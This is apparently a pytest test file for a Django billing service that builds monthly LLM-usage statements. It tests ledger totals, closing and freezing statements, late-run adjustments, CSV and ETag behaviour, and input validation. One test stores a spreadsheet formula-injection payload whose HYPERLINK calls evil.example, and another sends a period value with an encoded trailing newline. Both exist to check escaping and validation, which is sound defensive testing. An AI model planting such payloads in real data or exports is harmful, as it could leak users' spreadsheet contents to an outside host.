"""Monthly statements: lines that add up to the ledger, close freezes bytes for good, late runs become one
adjustment on the next open month, CSV, ETags and the close rules."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.utils import timezone

from apps.billing.models import Statement
from apps.core.models import AuditEvent
from apps.core.money import round_cents
from apps.core.timeutils import previous_month
from apps.ledger.models import Run
from tests import builders
from tests.conftest import bearer

from .conftest import assistants_run, at, ingest, response

pytestmark = pytest.mark.django_db


def url(slug: str, period: str, suffix: str = "/") -> str:
    return f"/api/v1/tenants/{slug}/statements/{period}{suffix}"


def get_json(client, key, slug, period):
    response = client.get(url(slug, period), **bearer(key))
    assert response.status_code == 200, response.content
    return json.loads(response.content)


def close(client, key, slug, period, **body):
    return client.post(url(slug, period, "/close"), body, format="json", **bearer(key))


def lines_of(document, line_type):
    return [line for line in document["lines"] if line["type"] == line_type]


def ledger_cost(tenant, start, end) -> Decimal:
    return sum(
        (run.cost_total_usd for run in Run.objects.for_tenant(tenant).filter(created_at__gte=start, created_at__lt=end)),
        Decimal(0),
    )


def test_statement_lines_add_up_exactly_to_the_ledger_runs_of_the_month(api_client, billing_key, tenant, ledger):
    document = get_json(api_client, billing_key, "acme", "2026-01")
    assert document["status"] == "open" and document["period_start"] == "2026-01-01" and document["period_end"] == "2026-02-01"
    january = ledger["acme_jan"]
    exact = sum((Decimal(line["exact_amount_usd"]) for line in document["lines"]), Decimal(0))
    assert exact == sum((run.cost_total_usd for run in january), Decimal(0))
    assert document["runs"] == 3
    by_model = {line["model"]: line for line in lines_of(document, "model")}
    assert set(by_model) == {"gpt-5.4", "gpt-4.1"}
    gpt41 = [run for run in january if run.model == "gpt-4.1"]
    assert by_model["gpt-4.1"]["runs"] == 2
    assert by_model["gpt-4.1"]["input_tokens"] == sum(run.input_tokens for run in gpt41)
    assert by_model["gpt-4.1"]["cached_input_tokens"] == 20_000
    assert Decimal(by_model["gpt-4.1"]["cost_cached_input_usd"]) == sum((run.cost_cached_input_usd for run in gpt41), Decimal(0))
    tools = {line["tool"]: line for line in lines_of(document, "tool")}
    assert tools["code_interpreter"]["quantity"] == "1" and tools["code_interpreter"]["unit"] == "session"
    assert tools["file_search"]["quantity"] == "3" and tools["web_search"]["quantity"] == "2"
    assert sum((Decimal(line["exact_amount_usd"]) for line in tools.values()), Decimal(0)) == sum(
        (run.cost_tools_usd for run in january), Decimal(0)
    )
    storage = lines_of(document, "vector_storage")
    assert storage == [storage[0]] and storage[0]["quantity"] == "0" and storage[0]["unit"] == "GB-day"
    # Invoice rounding: each line to cents, the subtotal is the sum of the rounded lines.
    assert Decimal(document["subtotal_usd"]) == sum((Decimal(line["amount_usd"]) for line in document["lines"]), Decimal(0))
    assert all(Decimal(line["amount_usd"]) == round_cents(Decimal(line["exact_amount_usd"])) for line in document["lines"])
    assert document["total_usd"] == document["subtotal_usd"] and document["markup_usd"] == "0.00"


def test_markup_line_is_a_percentage_of_the_subtotal(api_client, billing_key, tenant, ledger):
    tenant.markup_percent = Decimal("12.50")
    tenant.save()
    document = get_json(api_client, billing_key, "acme", "2026-01")
    subtotal = Decimal(document["subtotal_usd"])
    [markup] = lines_of(document, "markup")
    assert markup["quantity"] == "12.50" and markup["unit"] == "percent"
    assert Decimal(document["markup_usd"]) == round_cents(subtotal * Decimal("0.125")) == Decimal(markup["amount_usd"])
    assert Decimal(document["total_usd"]) == subtotal + Decimal(document["markup_usd"])


def test_vector_storage_line_reads_the_lifecycle_metering(api_client, billing_key, tenant, other_tenant, ledger):
    builders.storage_meter(tenant=tenant, day=at(2026, 1, 3).date(), gb_days=Decimal("2.5"), cost_usd=Decimal("0.15"))
    builders.storage_meter(tenant=tenant, day=at(2026, 1, 4).date(), gb_days=Decimal("2.5"), cost_usd=Decimal("0.15"))
    builders.storage_meter(tenant=tenant, day=at(2026, 2, 1).date(), gb_days=Decimal("9"), cost_usd=Decimal("0.8"))
    builders.storage_meter(tenant=other_tenant, day=at(2026, 1, 3).date(), gb_days=Decimal("7"), cost_usd=Decimal("0.6"))
    [storage] = lines_of(get_json(api_client, billing_key, "acme", "2026-01"), "vector_storage")
    assert storage["quantity"] == "5" and storage["exact_amount_usd"] == "0.30" and storage["amount_usd"] == "0.30"


def test_closed_statement_is_byte_for_byte_the_same_after_late_runs_and_next_month_adjusts(
    api_client, billing_key, admin_key, tenant, ledger
):
    before_close = get_json(api_client, billing_key, "acme", "2026-01")
    closed = close(api_client, admin_key, "acme", "2026-01")
    assert closed.status_code == 200, closed.content
    assert closed["X-Closed-Now"] == "true"
    frozen_json = api_client.get(url("acme", "2026-01"), **bearer(billing_key))
    frozen_csv = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    assert frozen_json.content == closed.content
    document = json.loads(frozen_json.content)
    assert document["status"] == "closed" and document["closed_at"]
    assert document["lines"] == before_close["lines"] and document["total_usd"] == before_close["total_usd"]

    late = response(tenant, at(2026, 1, 20), model="gpt-4.1", input_tokens=400_000, output_tokens=30_000,
                     attribution={"feature": "late"})
    late_again = assistants_run(tenant, at(2026, 1, 21), model="gpt-5.4", prompt_tokens=1_000, completion_tokens=50)

    after_json = api_client.get(url("acme", "2026-01"), **bearer(billing_key))
    after_csv = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    assert after_json.content == frozen_json.content
    assert after_csv.content == frozen_csv.content
    assert after_json["ETag"] == frozen_json["ETag"]
    assert close(api_client, admin_key, "acme", "2026-01").content == closed.content  # idempotent

    february = get_json(api_client, billing_key, "acme", "2026-02")
    adjustments = {line["model"]: line for line in lines_of(february, "adjustment")}
    assert set(adjustments) == {"gpt-4.1", "gpt-5.4"}
    assert adjustments["gpt-4.1"]["source_period"] == "2026-01"
    assert adjustments["gpt-4.1"]["runs"] == 1 and adjustments["gpt-4.1"]["input_tokens"] == 400_000
    assert Decimal(adjustments["gpt-4.1"]["exact_amount_usd"]) == late.cost_total_usd
    assert Decimal(adjustments["gpt-5.4"]["exact_amount_usd"]) == late_again.cost_total_usd
    own = sum((Decimal(line["exact_amount_usd"]) for line in february["lines"] if line["type"] != "adjustment"), Decimal(0))
    assert own == sum((run.cost_total_usd for run in ledger["acme_feb"]), Decimal(0))
    # Frozen January plus the adjustment is exactly what the ledger now holds for January.
    january_now = ledger_cost(tenant, at(2026, 1, 1, 0), at(2026, 2, 1, 0))
    assert Decimal(document["subtotal_usd"]) != january_now
    frozen_exact = sum((Decimal(line["exact_amount_usd"]) for line in document["lines"]), Decimal(0))
    adjusted_exact = sum((Decimal(line["exact_amount_usd"]) for line in adjustments.values()), Decimal(0))
    assert frozen_exact + adjusted_exact == january_now


def test_a_statement_still_answers_after_a_tool_price_version_no_run_uses_any_more_is_deleted(
        api_client, billing_key, tenant):
    from apps.ledger.services import runs_reprice
    from apps.pricing.models import ToolPrice

    mistaken = ToolPrice.objects.create(
        effective_from=at(2026, 1, 10).date(), code_interpreter_session_usd=Decimal("0.03"),
        file_search_call_usd_per_1k=Decimal("2.50"), web_search_call_usd_per_1k=Decimal("99.00"),
        vector_storage_usd_per_gb_day=Decimal("0.10"), vector_storage_free_gb=Decimal("1"))
    run = response(tenant, at(2026, 1, 12), model="gpt-4.1", web_search_calls=2)
    assert run.tool_price_id == mistaken.pk
    # Replaced as docs/pricing.md says: moved past today, January re-rated, then deleted (its tool-usage
    # rollup row stays behind at zero).
    mistaken.effective_from = at(2027, 6, 1).date()
    mistaken.save()
    runs_reprice(start=at(2026, 1, 1).date(), end=at(2026, 1, 31).date())
    mistaken.delete()
    run.refresh_from_db()

    document = get_json(api_client, billing_key, "acme", "2026-01")

    [web_search] = [line for line in lines_of(document, "tool") if line["tool"] == "web_search"]
    assert Decimal(web_search["exact_amount_usd"]) == run.cost_tools_usd == Decimal("0.02")


def test_a_model_whose_runs_all_moved_to_another_model_has_no_line_and_closing_freezes_none(
        api_client, billing_key, admin_key, tenant):
    ingest(tenant, builders.response(response_id="resp_model", created_at=at(2026, 1, 5), model="gpt-4.1",
                                     status="in_progress"))
    [run] = ingest(tenant, builders.response(response_id="resp_model", created_at=at(2026, 1, 5),
                                             model="gpt-4.1-2025-04-14"))

    closed = close(api_client, admin_key, "acme", "2026-01")

    assert closed.status_code == 200
    models = lines_of(json.loads(closed.content), "model")
    assert [(line["model"], line["runs"]) for line in models] == [("gpt-4.1-2025-04-14", 1)]
    assert Decimal(models[0]["exact_amount_usd"]) == run.cost_total_usd - run.cost_tools_usd
    assert lines_of(get_json(api_client, billing_key, "acme", "2026-02"), "adjustment") == []


def test_a_negative_adjustment_under_half_a_cent_is_written_0_00_not_minus_0_00(
        api_client, billing_key, admin_key, tenant):
    import datetime as dt

    from apps.ledger.services import runs_reprice
    from apps.pricing.models import ModelPrice

    response(tenant, at(2026, 1, 5), model="gpt-4.1", input_tokens=2_000, output_tokens=0)  # $0.004 at $2 per 1M
    assert close(api_client, admin_key, "acme", "2026-01").status_code == 200
    ModelPrice.objects.filter(model="gpt-4.1", effective_from=dt.date(2024, 1, 1)).update(input_usd_per_1m=Decimal("1"))
    runs_reprice(start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 31))  # January now $0.002

    february = get_json(api_client, billing_key, "acme", "2026-02")
    csv_rows = list(csv.DictReader(io.StringIO(api_client.get(url("acme", "2026-02", ".csv"), **bearer(billing_key))
                                               .content.decode())))

    [adjustment] = lines_of(february, "adjustment")
    assert (adjustment["exact_amount_usd"], adjustment["amount_usd"]) == ("-0.002", "0.00")
    assert (adjustment["cost_input_usd"], february["total_usd"]) == ("-0.002", "0.00")
    assert [row["amount_usd"] for row in csv_rows if row["type"] == "adjustment"] == ["0.00"]


def test_an_adjustment_is_billed_once_however_many_months_pass(api_client, billing_key, admin_key, tenant, ledger):
    assert close(api_client, admin_key, "acme", "2026-01").status_code == 200
    first_late = response(tenant, at(2026, 1, 15), model="gpt-4.1", input_tokens=100_000, output_tokens=1_000)

    # March is not the next open month while February is open: the adjustment belongs to February only.
    assert lines_of(get_json(api_client, billing_key, "acme", "2026-03"), "adjustment") == []
    assert close(api_client, admin_key, "acme", "2026-02").status_code == 200
    february = json.loads(api_client.get(url("acme", "2026-02"), **bearer(billing_key)).content)
    [carried] = lines_of(february, "adjustment")
    assert Decimal(carried["exact_amount_usd"]) == first_late.cost_total_usd

    # February is closed and already carried the first late run: March owes nothing for January yet.
    assert lines_of(get_json(api_client, billing_key, "acme", "2026-03"), "adjustment") == []

    second_late = response(tenant, at(2026, 1, 16), model="gpt-4.1", input_tokens=3_000, output_tokens=300)
    late_feb = assistants_run(tenant, at(2026, 2, 10), model="gpt-5.4", prompt_tokens=5_000, completion_tokens=500)
    march = get_json(api_client, billing_key, "acme", "2026-03")
    adjustments = {(line["source_period"], line["model"]): line for line in lines_of(march, "adjustment")}
    assert set(adjustments) == {("2026-01", "gpt-4.1"), ("2026-02", "gpt-5.4")}
    assert adjustments[("2026-01", "gpt-4.1")]["runs"] == 1
    assert Decimal(adjustments[("2026-01", "gpt-4.1")]["exact_amount_usd"]) == second_late.cost_total_usd
    assert Decimal(adjustments[("2026-02", "gpt-5.4")]["exact_amount_usd"]) == late_feb.cost_total_usd


def test_an_open_statement_reads_the_ledger_in_the_same_queries_however_many_months_are_closed_before_it(
        api_client, billing_key, tenant):
    # Each closed month before the open one is worked out again for its adjustments: read month by month (a
    # query or four each), the open statement of a tenant with three years closed took half a second.
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from apps.billing.services import statement_close

    late_runs = {}

    def open_statement_queries(closed_months: int) -> tuple[int, dict]:
        month = dt.date(2026, 10, 1)
        for _ in range(closed_months):
            month = previous_month(month)
            if not Statement.objects.for_tenant(tenant).filter(period=month).exists():
                response(tenant, at(month.year, month.month, 5), model="gpt-4.1")
                statement_close(tenant=tenant, period=month)
        # A late run of the earliest closed month, owed by the open one.
        late_runs[f"{month:%Y-%m}"] = response(tenant, at(month.year, month.month, 6), model="gpt-4.1").cost_total_usd
        get_json(api_client, billing_key, "acme", "2026-10")  # the key's first use records its last_used_at
        with CaptureQueriesContext(connection) as queries:
            document = get_json(api_client, billing_key, "acme", "2026-10")
        return len(queries), document

    few, _ = open_statement_queries(2)
    many, document = open_statement_queries(14)
    assert many == few
    owed = {line["source_period"]: Decimal(line["exact_amount_usd"]) for line in lines_of(document, "adjustment")}
    assert owed == late_runs and set(owed) == {"2025-08", "2026-08"}


def test_csv_has_the_same_lines_and_total_by_path_and_by_format(api_client, billing_key, tenant, ledger):
    by_path = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    by_format = api_client.get(url("acme", "2026-01") + "?format=csv", **bearer(billing_key))
    assert by_path.status_code == 200 and by_path["Content-Type"].startswith("text/csv")
    assert by_path.content == by_format.content
    rows = list(csv.DictReader(io.StringIO(by_path.content.decode())))
    document = get_json(api_client, billing_key, "acme", "2026-01")
    assert [row["type"] for row in rows] == [line["type"] for line in document["lines"]] + ["total"]
    assert rows[-1]["amount_usd"] == document["total_usd"]
    assert sum((Decimal(row["amount_usd"]) for row in rows[:-1]), Decimal(0)) == Decimal(document["total_usd"])
    assert 'filename="acme-2026-01.csv"' in by_path["Content-Disposition"]


def test_if_none_match_gives_304_until_the_statement_changes(api_client, billing_key, tenant, ledger):
    first = api_client.get(url("acme", "2026-01"), **bearer(billing_key))
    etag = first["ETag"]
    again = api_client.get(url("acme", "2026-01"), HTTP_IF_NONE_MATCH=etag, **bearer(billing_key))
    assert again.status_code == 304 and again.content == b"" and again["ETag"] == etag
    assert again["X-Statement-Status"] == first["X-Statement-Status"] == "open"  # the 304 describes what it stands for
    response(tenant, at(2026, 1, 12), model="gpt-4.1")
    changed = api_client.get(url("acme", "2026-01"), HTTP_IF_NONE_MATCH=etag, **bearer(billing_key))
    assert changed.status_code == 200 and changed["ETag"] != etag
    csv_first = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    assert api_client.get(url("acme", "2026-01", ".csv"), HTTP_IF_NONE_MATCH=csv_first["ETag"],
                          **bearer(billing_key)).status_code == 304


def test_closing_is_audited_and_refuses_months_that_have_not_ended(api_client, admin_key, tenant, ledger):
    this_month = timezone.now().strftime("%Y-%m")
    refused = close(api_client, admin_key, "acme", this_month)
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "period_not_ended"
    assert close(api_client, admin_key, "acme", "2099-01").status_code == 409
    assert close(api_client, admin_key, "acme", "2026-01").status_code == 200
    event = AuditEvent.objects.get(action="statement.close")
    assert event.target_id == "acme/2026-01" and event.tenant_id == tenant.pk and event.actor_label.startswith("api-key:")


def test_closing_a_month_with_unpriced_runs_needs_allow_unpriced(api_client, admin_key, billing_key, tenant, ledger):
    run = assistants_run(tenant, at(2026, 1, 10), model="gpt-unknown-model")
    assert run.priced is False
    refused = close(api_client, admin_key, "acme", "2026-01")
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "unpriced_runs"
    assert get_json(api_client, billing_key, "acme", "2026-01")["unpriced_runs"] == 1
    closed = close(api_client, admin_key, "acme", "2026-01", allow_unpriced=True)
    assert closed.status_code == 200 and json.loads(closed.content)["unpriced_runs"] == 1


def test_closing_a_month_that_carries_a_late_unpriced_run_as_an_adjustment_needs_allow_unpriced(
        api_client, admin_key, billing_key, tenant, ledger):
    assert close(api_client, admin_key, "acme", "2026-01").status_code == 200
    assistants_run(tenant, at(2026, 1, 10), model="gpt-unknown-model")  # late, and no price for its model
    [adjustment] = lines_of(get_json(api_client, billing_key, "acme", "2026-02"), "adjustment")
    assert (adjustment["model"], adjustment["runs"], adjustment["amount_usd"]) == ("gpt-unknown-model", 1, "0.00")

    refused = close(api_client, admin_key, "acme", "2026-02")

    assert refused.status_code == 409 and refused.json()["error"]["code"] == "unpriced_runs"
    assert refused.json()["error"]["message"].startswith("1 late run(s) of earlier months")  # not "0 run(s) in ..."
    assert not Statement.objects.for_tenant(tenant).filter(period="2026-02-01").exists()
    closed = close(api_client, admin_key, "acme", "2026-02", allow_unpriced=True)
    assert closed.status_code == 200 and lines_of(json.loads(closed.content), "adjustment") == [adjustment]


def test_a_late_run_of_a_month_closed_with_its_unpriced_runs_allowed_is_not_asked_about_again(
        api_client, admin_key, tenant, ledger):
    assistants_run(tenant, at(2026, 1, 10), model="gpt-unknown-model")
    assert close(api_client, admin_key, "acme", "2026-01", allow_unpriced=True).status_code == 200
    response(tenant, at(2026, 1, 11), model="gpt-4.1")  # late and priced: the adjustment has no new unpriced run

    assert close(api_client, admin_key, "acme", "2026-02").status_code == 200


def test_only_admin_keys_close_and_bad_periods_are_400(api_client, billing_key, ingest_key, admin_key, tenant, ledger):
    assert close(api_client, billing_key, "acme", "2026-01").status_code == 403
    assert close(api_client, ingest_key, "acme", "2026-01").status_code == 403
    for bad in ("2026-13", "2026-1", "26-01", "january", "\uff12\uff10\uff12\uff16-01"):  # the last: fullwidth digits
        answer = api_client.get(url("acme", bad), **bearer(billing_key))
        assert answer.status_code == 400 and answer.json()["error"]["field"] == "period", bad
    answer = close(api_client, admin_key, "acme", "2026-00")
    assert answer.status_code == 400 and answer.json()["error"]["field"] == "period"
    assert api_client.post(url("acme", "2026-01", "/close"), [1], format="json", **bearer(admin_key)).status_code == 400


def test_the_csv_address_asked_for_another_format_is_a_404_and_serves_csv_otherwise(api_client, billing_key, ledger):
    asked_json = api_client.get(url("acme", "2026-01", ".csv?format=json"), **bearer(billing_key))
    plain = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    asked_csv = api_client.get(url("acme", "2026-01", ".csv?format=csv"), **bearer(billing_key))

    assert asked_json.status_code == 404 and asked_json.json()["error"]["code"] == "not_found"
    assert plain.status_code == asked_csv.status_code == 200
    assert plain["Content-Type"].startswith("text/csv") and plain.content == asked_csv.content


def test_a_close_with_an_option_it_does_not_know_is_a_400_and_the_month_stays_open(api_client, admin_key, tenant,
                                                                                   ledger):
    # Closing is for good: a misspelt option must not close the month without it.
    answer = close(api_client, admin_key, "acme", "2026-01", alow_unpriced=True)

    assert answer.status_code == 400 and answer.json()["error"]["field"] == "alow_unpriced"
    assert "this endpoint writes allow_unpriced" in answer.json()["error"]["message"]
    assert not Statement.objects.for_tenant(tenant).exists()


@pytest.mark.parametrize(("method", "suffix"), [("get", ".csv"), ("get", "/?format=csv"), ("get", "/"), ("post", "/close")])
def test_a_period_with_a_trailing_newline_is_a_400_naming_period(api_client, admin_key, tenant, ledger, method, suffix):
    # `$` matches before a final newline; before the fix the CSV routes put it in a header (500) and close closed January.
    answer = getattr(api_client, method)(url("acme", "2026-01%0A", suffix), **bearer(admin_key))
    assert answer.status_code == 400 and answer.json()["error"]["field"] == "period"
    assert not Statement.objects.for_tenant(tenant).exists()


def test_statement_csv_cells_from_ingest_are_escaped_as_text_and_closing_freezes_the_escaped_cells(
    api_client, admin_key, billing_key, tenant
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"gpt-5")'
    response(tenant, at(2026, 1, 5), model=formula)
    live = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
    [row] = [row for row in csv.DictReader(io.StringIO(live.content.decode())) if row["type"] == "model"]
    assert row["model"] == "'" + formula and row["description"] == "'" + formula
    assert get_json(api_client, billing_key, "acme", "2026-01")["lines"][0]["model"] == formula  # JSON is no spreadsheet
    assert close(api_client, admin_key, "acme", "2026-01", allow_unpriced=True).status_code == 200
    frozen = csv.DictReader(io.StringIO(Statement.objects.for_tenant(tenant).get().frozen_csv))
    assert [row for row in frozen if row["type"] == "model"] == [row]


def _a_run_of_january_ingested_while_the_statement_reads_its_tool_use(tenant, monkeypatch) -> None:
    """One run of January 2026 with a code-interpreter session stored; a second one, alike, ingested and
    committed by another connection just before the statement reads its tool use (after its usage by model)."""
    import threading

    from django.db import connection

    from apps.billing import selectors

    assistants_run(tenant, at(2026, 1, 5), model="gpt-5.4", prompt_tokens=1_000_000, completion_tokens=0,
                   code_interpreter=True)
    read_tools = selectors.ledger_selectors.tool_usage_by_kind_by_month

    def ingest_elsewhere():
        try:
            assistants_run(tenant, at(2026, 1, 6), model="gpt-5.4", prompt_tokens=1_000_000, completion_tokens=0,
                           code_interpreter=True)
        finally:
            connection.close()

    def tools_after_a_concurrent_ingest(**kwargs):
        other = threading.Thread(target=ingest_elsewhere)  # its own connection, committed before we go on
        other.start()
        other.join(timeout=60)
        monkeypatch.setattr(selectors.ledger_selectors, "tool_usage_by_kind_by_month", read_tools)
        return read_tools(**kwargs)

    monkeypatch.setattr(selectors.ledger_selectors, "tool_usage_by_kind_by_month", tools_after_a_concurrent_ingest)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_close_freezes_one_moment_of_the_ledger_while_a_run_of_the_month_is_ingested_meanwhile(
        tenant, monkeypatch):
    """Closing reads usage by model, tool use and storage in separate queries; a run committed between them
    must not land half on the frozen statement (its code-interpreter session without its run and tokens) and
    half on the next month's adjustments."""
    from apps.billing import selectors, services

    _a_run_of_january_ingested_while_the_statement_reads_its_tool_use(tenant, monkeypatch)
    statement, closed_now = services.statement_close(tenant=tenant, period=dt.date(2026, 1, 1))

    assert closed_now and Run.objects.for_tenant(tenant).count() == 2
    frozen = json.loads(statement.frozen_json)
    [model] = lines_of(frozen, "model")
    sessions = {line["tool"]: line for line in lines_of(frozen, "tool")}["code_interpreter"]
    assert (model["runs"], model["input_tokens"], sessions["quantity"]) == (1, 1_000_000, "1")
    assert (model["amount_usd"], sessions["amount_usd"], frozen["total_usd"]) == ("2.50", "0.03", "2.53")
    february = selectors.statement_document(selectors.statement_data(tenant=tenant, period=dt.date(2026, 2, 1)),
                                            status="open", closed_at=None)
    adjustments = {line["model"] or line["tool"]: line for line in lines_of(february, "adjustment")}
    assert set(adjustments) == {"gpt-5.4", "code_interpreter"}
    assert (adjustments["gpt-5.4"]["runs"], adjustments["gpt-5.4"]["amount_usd"]) == (1, "2.50")
    assert (adjustments["code_interpreter"]["quantity"], adjustments["code_interpreter"]["amount_usd"]) == ("1", "0.03")


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_an_open_statement_answers_one_moment_of_the_ledger_while_a_run_of_the_month_is_ingested_meanwhile(
        api_client, billing_key, tenant, monkeypatch):
    """An open statement is recomputed on every GET from the same separate queries as a close; a run committed
    between them must not appear as its code-interpreter session without its run and tokens (a total that
    matches no state the ledger was ever in)."""
    _a_run_of_january_ingested_while_the_statement_reads_its_tool_use(tenant, monkeypatch)
    document = get_json(api_client, billing_key, "acme", "2026-01")

    assert Run.objects.for_tenant(tenant).count() == 2
    [model] = lines_of(document, "model")
    sessions = {line["tool"]: line for line in lines_of(document, "tool")}["code_interpreter"]
    assert (model["runs"], model["input_tokens"], sessions["quantity"]) == (1, 1_000_000, "1")
    assert (model["amount_usd"], sessions["amount_usd"], document["total_usd"]) == ("2.50", "0.03", "2.53")
    # The next answer sees both runs, whole.
    document = get_json(api_client, billing_key, "acme", "2026-01")
    assert (lines_of(document, "model")[0]["runs"], document["total_usd"]) == (2, "5.06")
